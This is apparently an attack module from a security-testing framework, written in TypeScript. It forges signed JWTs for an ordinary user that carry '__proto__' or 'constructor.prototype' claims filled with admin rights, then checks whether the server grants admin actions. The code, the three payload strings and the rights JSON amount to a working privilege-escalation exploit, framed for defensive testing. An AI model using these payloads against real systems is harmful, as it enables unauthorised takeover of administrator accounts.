import { defineAttack } from '../../attack.ts'
import { inconclusive, resisted, vulnerable } from '../../judge.ts'
import { act, idOf } from '../../kit/act.ts'
import { thirdAdmission } from '../../kit/direct-message.ts'
import { mint, readToken } from '../../kit/forge-token.ts'

const rights = '{"role":"admin","roles":["admin"],"isAdmin":true,"admin":true}'

export default defineAttack({
  id: 'token/claim-proto-merge',
  rows: ['token.claim-proto-merge'],
  title: 'A signed token of an ordinary user with a __proto__ claim that has an admin’s rights in it',
  requirement: 'ASVS V15.3.3: fields that are not expected are not taken over, prototypes above all',
  impact: 'Where users can put fields into their tokens, they become admins.',
  remedy: 'Read the claims that you need, one by one; never Object.assign or deep-merge them into a user.',
  severity: 'high',
  cwe: ['CWE-1321', 'CWE-915'],
  references: ['ASVS V15.3.3'],
  provenBy: 'merge-claims',
  needs: ['jwt', 'signingKey', 'administration', 'admin'],
  effect: 'write',
  holds: 'account',
  async run(context) {
    const { namespace, actions } = context.administration
    const { header, payload } = readToken(context.attacker.token)
    const json = JSON.stringify(payload).slice(0, -1)
    const values = () => ({ text: context.canary(), room: context.canary(), user: idOf(context.attacker) })
    /** Which actions of admins a token can do, in words. */
    const mayDo = async (name: string, extra: string): Promise<string[]> => {
      const token = mint(context.signingKey, header, `${json}${extra}}`)
      const door = { token, namespace, join: false, address: context.freshAddress() }
      const admission = await context.connect(door)
      const done: string[] = []
      for (const action of admission.admitted ? actions : [])
        if (admission.admitted && (await act(context, admission.session, action, values())).ok) done.push(action.event)
      const how = admission.admitted ? `may ${done.join(', ') || 'nothing'}` : `refused, ${admission.refusal.how}`
      context.note('received', `${name}: ${how}`)
      return done
    }
    const office = await thirdAdmission(context, namespace)
    if (!office.admitted) return inconclusive(`an admin was refused in ${namespace}: ${office.refusal.how}`)
    const { ok, said } = await act(context, office.session, actions[0]!, values())
    if (!ok) return inconclusive(`an admin was not served in ${namespace}: ${said}`)
    const control = context.note('received', `an admin in ${namespace} may ${actions[0]!.event}`)
    await office.session.close()
    context.recording.fromHere()
    const won = [
      ...(await mayDo('claim __proto__ with rights', `,"__proto__":${rights}`)),
      ...(await mayDo('claim __proto__ with a user with rights', `,"__proto__":{"user":${rights}}`)),
      ...(await mayDo('claim constructor.prototype with rights', `,"constructor":{"prototype":${rights}}`)),
    ]
    context.recording.untilHere()
    if (won.length === 0) return resisted(control, context.evidence)
    if ((await mayDo('the same token without it', '')).length > 0)
      return inconclusive('superseded by nsp/open-low-priv: any user may', context.evidence)
    if ((await mayDo('the rights as plain claims', `,${rights.slice(1, -1)}`)).length > 0)
      return inconclusive('the target takes rights from plain claims as well: whoever signs decides', context.evidence)
    return vulnerable(context.evidence)
  },
})
